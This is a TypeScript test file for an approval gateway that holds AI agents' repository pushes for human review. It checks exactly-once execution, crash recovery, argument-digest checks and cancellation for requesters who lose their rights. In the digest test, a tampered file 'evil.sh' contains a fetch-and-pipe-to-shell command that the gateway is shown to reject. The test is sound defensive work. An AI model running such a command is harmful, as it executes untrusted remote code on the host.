// Approved actions always finish, exactly once: the lease claim, the sweep that takes over an
// execution whose instance died (before, during or after its push), the digest check, and the
// cancellation of approvals whose requester lost the right to them. Real PostgreSQL, real git.
import { randomBytes } from 'node:crypto';
import { afterAll, describe, expect, it } from 'vitest';
import { appendAuditEntry } from '../audit/append-audit-entry';
import { verifyAuditChain } from '../audit/verify-audit-chain';
import { db } from '../db';
import { runApprovedCall, type ExecutionPlan } from '../gateway/approved-call';
import { decideCall } from '../gateway/decide';
import { roomFacts } from '../gateway/room-facts';
import { commitTo, createOrigin, disposeOriginTemplate, git, head, show, tempDir } from '../git/test-fixtures';
import { createRoom } from '../rooms/create-room';
import { addMember, changeMemberRole, removeMember } from '../rooms/members';
import { createUser } from '../users/create-user';
import { claimApproval, MAX_ATTEMPTS, recordExecutionPlan } from './approval-lease';
import { cancelIneligibleApprovals } from './cancel-approvals';
import { createApproval } from './create-approval';
import { expireApproval } from './expire-approvals';
import { executeApproval } from './execute-approval';
import { reviewApproval } from './review-approval';
import { sweepApprovals } from './approval-sweeper';

// Under the repository roots the test environment allows, like any room's repository.
const scratch = tempDir(`${process.env.AEGIS_REPOSITORY_ROOTS!.split(':')[0]}/approval-exec-`);
afterAll(async () => {
  await disposeOriginTemplate();
  scratch.cleanup();
});

const tag = () => randomBytes(5).toString('hex');

async function user(prefix: string) {
  const id = tag();
  const email = `${prefix}-${id}@example.test`;
  const created = await createUser({ name: `${prefix} ${id}`, email, password: `pw-${tag()}${tag()}` });
  return { id: created.id, email };
}

/** A room on a fresh origin, its OWNER, and a DEVELOPER whose agent's calls need approval. */
async function setting() {
  const owner = await user('owner');
  const developer = await user('dev');
  const { origin, initial } = await createOrigin(scratch.dir, `origin-${tag()}.git`);
  const { room } = await createRoom(owner.id, {
    name: `room-${tag()}`,
    repositoryKind: 'git',
    location: origin,
    defaultBranch: 'main',
    protectedBranches: 'release/**',
  });
  await addMember(owner.id, room.id, { email: developer.email, role: 'DEVELOPER' });
  return { roomId: room.id, origin, initial, owner, developer };
}

type Setting = Awaited<ReturnType<typeof setting>>;

// A CI workflow is a sensitive path: the default policy holds a DEVELOPER's push for approval.
const workflowPush = (branch = `aegis/ci-${tag()}`) => ({
  branch,
  message: 'Run the tests on pull requests',
  files: [{ path: '.github/workflows/ci.yml', content: 'on: pull_request\n' }],
});

/** The agent's call as the gateway files it: decided, audited, held. */
async function heldCall(s: Setting, args: Record<string, unknown>, tool = 'push_files') {
  const context = {
    room: await roomFacts(s.roomId),
    userId: s.developer.id,
    role: 'DEVELOPER' as const,
    author: { name: 'Dev', email: s.developer.email },
    sessionId: `session-${tag()}`,
    baseUrl: 'http://localhost:3000',
  };
  const decision = await decideCall(context, tool, args);
  expect(decision.effect).toBe('require_approval');
  const entry = await appendAuditEntry({
    roomId: s.roomId,
    kind: 'decision',
    userId: s.developer.id,
    role: 'DEVELOPER',
    tool,
    arguments: args,
    decision: decision.effect,
    ruleId: decision.ruleId,
  });
  return createApproval({ context, tool, args, decision, decisionEntryId: entry.id });
}

/** Approved by a reviewer, but not run yet (as if the reviewer's request stopped right there). */
async function approvedNotRun(s: Setting, args = workflowPush()) {
  const approval = await heldCall(s, args);
  await db.approval.update({ where: { id: approval.id }, data: { status: 'approved', decidedAt: new Date() } });
  return { approval, args };
}

/** An instance claims the action, runs `upTo` of it, and dies (its lease then runs out). */
async function dieWhileExecuting(approvalId: string, upTo: 'before the push' | 'after the push') {
  const owner = `dead-${tag()}`;
  const claimed = (await claimApproval(approvalId, owner))!;
  expect(claimed.status).toBe('executing');
  const died = new Error('killed');
  await runApprovedCall(claimed, {
    mayAct: true,
    recordPlan: async (plan) => {
      await recordExecutionPlan(approvalId, owner, plan);
      if (upTo === 'before the push' && plan.kind === 'push') throw died;
    },
  }).catch((error) => {
    if (error !== died) throw error;
  });
  await expireLease(approvalId);
}

const expireLease = (approvalId: string) =>
  db.approval.update({ where: { id: approvalId }, data: { leaseExpiresAt: new Date(Date.now() - 1000) } });

const outcomes = (s: Setting, decisionEntryId: string) =>
  db.auditEntry.findMany({ where: { roomId: s.roomId, kind: 'outcome', callId: decisionEntryId } });

/** Commits on `branch` that main does not have. */
async function commitsOnBranch(origin: string, branch: string) {
  const out = await git(origin, ['log', '--format=%H %s', `main..${branch}`]);
  return out ? out.split('\n') : [];
}

describe('the lease', () => {
  it('lets exactly one of two concurrent executors run an approved action', async () => {
    const s = await setting();
    const { approval, args } = await approvedNotRun(s);
    const [first, second] = await Promise.all([executeApproval(approval.id), executeApproval(approval.id)]);

    const final = await db.approval.findUniqueOrThrow({ where: { id: approval.id } });
    expect(final.status).toBe('executed');
    expect(final.attempts).toBe(1);
    expect(await commitsOnBranch(s.origin, args.branch)).toHaveLength(1);
    // The loser reports the approval as it stands (executing or already executed), never a second run.
    expect([first.status, second.status].filter((status) => status === 'executed').length).toBeGreaterThanOrEqual(1);
    expect(await outcomes(s, approval.decisionEntryId)).toHaveLength(1);
  });

  it('is not taken over while it is held, only once it expired', async () => {
    const s = await setting();
    const { approval } = await approvedNotRun(s);
    expect(await claimApproval(approval.id, 'instance-a')).not.toBeNull();
    expect(await claimApproval(approval.id, 'instance-b')).toBeNull();
    await expireLease(approval.id);
    const taken = await claimApproval(approval.id, 'instance-b');
    expect(taken).toMatchObject({ leaseOwner: 'instance-b', attempts: 2 });
    // The old holder can no longer record a plan, so it never acts.
    await expect(
      recordExecutionPlan(approval.id, 'instance-a', { kind: 'started', tool: 'push_files' }),
    ).rejects.toThrow(/took this approved action over/);
  });
});

describe('the sweep', () => {
  it('re-runs an action whose instance died before acting, once, and audits it', async () => {
    const s = await setting();
    const { approval, args } = await approvedNotRun(s);
    await claimApproval(approval.id, 'died-at-once');
    await expireLease(approval.id);

    await sweepApprovals();
    const final = await db.approval.findUniqueOrThrow({ where: { id: approval.id } });
    expect(final).toMatchObject({ status: 'executed', attempts: 2, leaseOwner: null });
    const pushed = await commitsOnBranch(s.origin, args.branch);
    expect(pushed).toHaveLength(1);
    const [outcome] = await outcomes(s, approval.decisionEntryId);
    expect(outcome).toMatchObject({ status: 'ok', commitSha: pushed[0]!.split(' ')[0] });
    expect(outcome!.result).toMatch(/attempt 2/);
    expect(await verifyAuditChain(s.roomId)).toMatchObject({ intact: true });
  });

  it('finds the push a dead instance landed and does not push it again', async () => {
    const s = await setting();
    const { approval, args } = await approvedNotRun(s);
    await dieWhileExecuting(approval.id, 'after the push');
    const landed = await commitsOnBranch(s.origin, args.branch);
    expect(landed).toHaveLength(1);

    await sweepApprovals();
    const final = await db.approval.findUniqueOrThrow({ where: { id: approval.id } });
    expect(final.status).toBe('executed');
    expect(await commitsOnBranch(s.origin, args.branch)).toEqual(landed);
    expect(final.result).toMatchObject({ commit: { sha: landed[0]!.split(' ')[0] } });
    const all = await outcomes(s, approval.decisionEntryId);
    expect(all).toHaveLength(1);
    expect(all[0]!.result).toMatch(/landed in an earlier attempt/);
  });

  it('pushes exactly the planned commit when the dead instance planned it but never pushed', async () => {
    const s = await setting();
    const { approval, args } = await approvedNotRun(s);
    await dieWhileExecuting(approval.id, 'before the push');
    expect(await head(s.origin, args.branch)).toBeNull();
    const plan = (await db.approval.findUniqueOrThrow({ where: { id: approval.id } })).executionPlan as ExecutionPlan;
    expect(plan.kind).toBe('push');

    await sweepApprovals();
    expect(await head(s.origin, args.branch)).toBe(plan.kind === 'push' ? plan.commitSha : null);
    expect((await db.approval.findUniqueOrThrow({ where: { id: approval.id } })).status).toBe('executed');
    expect(await outcomes(s, approval.decisionEntryId)).toHaveLength(1);
  });

  it('decides again when the branch moved while the instance was down, and fails with the reason', async () => {
    const s = await setting();
    const branch = `aegis/ci-${tag()}`;
    await commitTo(s.origin, s.initial, { 'notes.md': 'x\n' }, { branch });
    const { approval } = await approvedNotRun(s, workflowPush(branch));
    await dieWhileExecuting(approval.id, 'before the push');
    const moved = await commitTo(s.origin, (await head(s.origin, branch))!, { 'other.md': 'y\n' }, { branch });

    await sweepApprovals();
    const final = await db.approval.findUniqueOrThrow({ where: { id: approval.id } });
    expect(final.status).toBe('failed');
    expect(final.error).toMatch(/repository changed since this action was reviewed.*require_approval/);
    expect(await head(s.origin, branch)).toBe(moved);
    expect(await outcomes(s, approval.decisionEntryId)).toEqual([
      expect.objectContaining({ status: 'error', error: expect.stringMatching(/repository changed/) }),
    ]);
  });

  it('gives up after too many interrupted attempts, with the reason', async () => {
    const s = await setting();
    const { approval, args } = await approvedNotRun(s);
    await db.approval.update({
      where: { id: approval.id },
      data: { status: 'executing', attempts: MAX_ATTEMPTS, leaseOwner: 'gone', leaseExpiresAt: new Date(0) },
    });
    await sweepApprovals();
    const final = await db.approval.findUniqueOrThrow({ where: { id: approval.id } });
    expect(final.status).toBe('failed');
    expect(final.error).toMatch(/interrupted 3 times/);
    expect(await head(s.origin, args.branch)).toBeNull();
  });

  it('runs an approved action nobody claimed (the reviewer request died) after a grace period', async () => {
    const s = await setting();
    const { approval, args } = await approvedNotRun(s);
    await db.approval.update({ where: { id: approval.id }, data: { decidedAt: new Date(Date.now() - 60_000) } });
    await sweepApprovals();
    expect((await db.approval.findUniqueOrThrow({ where: { id: approval.id } })).status).toBe('executed');
    expect(await commitsOnBranch(s.origin, args.branch)).toHaveLength(1);
  });
});

describe('the digest', () => {
  it('refuses an approval whose stored arguments are not what was reviewed', async () => {
    const s = await setting();
    const { approval, args } = await approvedNotRun(s);
    await db.approval.update({
      where: { id: approval.id },
      data: { arguments: { ...args, files: [{ path: 'evil.sh', content: 'curl x | sh\n' }] } },
    });
    const final = await executeApproval(approval.id);
    expect(final.status).toBe('failed');
    expect(final.error).toMatch(/does not match the action that was reviewed/);
    expect(await head(s.origin, args.branch)).toBeNull();
  });
});

describe('a requester who lost the right', () => {
  it('has their pending approval cancelled and audited when removed from the room', async () => {
    const s = await setting();
    const approval = await heldCall(s, workflowPush());
    await removeMember(s.owner.id, s.roomId, s.developer.id);
    // What every instance does on the room.members_changed event.
    expect(await cancelIneligibleApprovals(s.roomId)).toBe(1);
    const final = await db.approval.findUniqueOrThrow({ where: { id: approval.id } });
    expect(final).toMatchObject({ status: 'cancelled', error: 'The requester is no longer a member of the room.' });
    expect(await outcomes(s, approval.decisionEntryId)).toEqual([
      expect.objectContaining({
        status: 'cancelled',
        result: 'cancelled: The requester is no longer a member of the room.',
        error: null,
      }),
    ]);
    await expect(reviewApproval(s.owner.id, approval.id, { decision: 'approve' })).rejects.toThrow(/was cancelled/);
  });

  it('is cancelled when a reviewer approves after the membership event was missed', async () => {
    const s = await setting();
    const args = workflowPush();
    const approval = await heldCall(s, args);
    await db.member.delete({ where: { roomId_userId: { roomId: s.roomId, userId: s.developer.id } } });
    await expect(reviewApproval(s.owner.id, approval.id, { decision: 'approve' })).rejects.toThrow(
      'This approval was cancelled: The requester is no longer a member of the room.',
    );
    expect((await db.approval.findUniqueOrThrow({ where: { id: approval.id } })).status).toBe('cancelled');
    expect(await head(s.origin, args.branch)).toBeNull();
    expect(await outcomes(s, approval.decisionEntryId)).toHaveLength(1);
  });

  it('is cancelled at execution time, failing closed, when demoted below the role the call was made with', async () => {
    const s = await setting();
    const admin = await user('admin');
    await addMember(s.owner.id, s.roomId, { email: admin.email, role: 'ADMIN' });
    // The admin's agent calls as ADMIN; the call is held and approved, then the admin is demoted.
    const args = workflowPush();
    const context = {
      room: await roomFacts(s.roomId),
      userId: admin.id,
      role: 'ADMIN' as const,
      author: { name: 'Admin', email: admin.email },
      sessionId: 'admin-session',
      baseUrl: 'http://localhost:3000',
    };
    const decision = await decideCall(context, 'push_files', args);
    expect(decision.effect).toBe('require_approval');
    const entry = await appendAuditEntry({
      roomId: s.roomId,
      kind: 'decision',
      userId: admin.id,
      role: 'ADMIN',
      tool: 'push_files',
      arguments: args,
      decision: decision.effect,
    });
    const approval = await createApproval({ context, tool: 'push_files', args, decision, decisionEntryId: entry.id });
    await db.approval.update({ where: { id: approval.id }, data: { status: 'approved', decidedAt: new Date() } });
    await changeMemberRole(s.owner.id, s.roomId, { userId: admin.id, role: 'DEVELOPER' });

    const final = await executeApproval(approval.id);
    expect(final.status).toBe('cancelled');
    expect(final.error).toBe(
      'The requester is now DEVELOPER in the room, below the ADMIN role the call was made with.',
    );
    expect(await head(s.origin, args.branch)).toBeNull();
    expect(await outcomes(s, approval.decisionEntryId)).toHaveLength(1);
  });

  it('keeps the approvals of a member who is still entitled', async () => {
    const s = await setting();
    const approval = await heldCall(s, workflowPush());
    await changeMemberRole(s.owner.id, s.roomId, { userId: s.developer.id, role: 'ADMIN' });
    expect(await cancelIneligibleApprovals(s.roomId)).toBe(0);
    expect((await db.approval.findUniqueOrThrow({ where: { id: approval.id } })).status).toBe('pending');
  });
});

it('an executed approval writes its outcome with its status change', async () => {
  const s = await setting();
  const approval = await heldCall(s, workflowPush());
  const reviewed = await reviewApproval(s.owner.id, approval.id, { decision: 'approve' });
  expect(reviewed.status).toBe('executed');
  const [outcome] = await outcomes(s, approval.decisionEntryId);
  expect(outcome).toMatchObject({
    status: 'ok',
    commitSha: (reviewed.result as { commit: { sha: string } }).commit.sha,
  });
  expect(
    await show(s.origin, String((approval.arguments as { branch: string }).branch), '.github/workflows/ci.yml'),
  ).toBe('on: pull_request');
});

describe('an approval that never ran', () => {
  it('is audited as denied, naming the reviewer and the comment, and the chain still verifies', async () => {
    const s = await setting();
    const approval = await heldCall(s, workflowPush());
    const denied = await reviewApproval(s.owner.id, approval.id, { decision: 'deny', comment: 'Not this week' });
    expect(denied.status).toBe('denied');
    expect(await outcomes(s, approval.decisionEntryId)).toEqual([
      expect.objectContaining({
        status: 'denied',
        result: expect.stringMatching(
          /^Denied by owner \w+ \(owner-\w+@example\.test\): "Not this week"; not executed$/,
        ),
        error: null,
      }),
    ]);
    expect(await verifyAuditChain(s.roomId)).toMatchObject({ intact: true });
  });

  it('is audited as expired when nobody decided in time', async () => {
    const s = await setting();
    const approval = await heldCall(s, workflowPush());
    await db.approval.update({ where: { id: approval.id }, data: { expiresAt: new Date(Date.now() - 1000) } });
    expect(await expireApproval(approval.id)).toBe(true);
    expect(await outcomes(s, approval.decisionEntryId)).toEqual([
      expect.objectContaining({ status: 'expired', result: 'expired before anyone decided; not executed' }),
    ]);
    expect(await verifyAuditChain(s.roomId)).toMatchObject({ intact: true });
  });
});
